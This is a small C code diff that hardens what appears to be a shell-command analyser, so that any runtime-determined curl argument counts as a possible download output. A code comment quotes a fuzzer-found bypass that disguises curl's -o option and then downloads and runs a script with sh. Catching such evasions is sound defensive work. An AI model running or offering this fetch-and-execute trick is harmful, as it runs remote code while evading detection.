@@ -279,7 +279,10 @@ static void fetch_writes(const locus_shell_command *c, const lk_fetch *f,
 		const char *a = c->argv[i];
 		bool dyn =
 		    c->argv_flags && (c->argv_flags[i] & LOCUS_WORD_DYNAMIC);
-		if (dyn && is_option(a)) {
+		/* a word known only at run time may be -o, taking the next
+		   word (`curl "$(echo -o)" i.sh URL && sh i.sh`, found by
+		   fuzz_bypass): any file */
+		if (dyn) {
 			add_name(s, NULL, LK_CONTENT_DOWNLOAD, false);
 			continue;
 		}
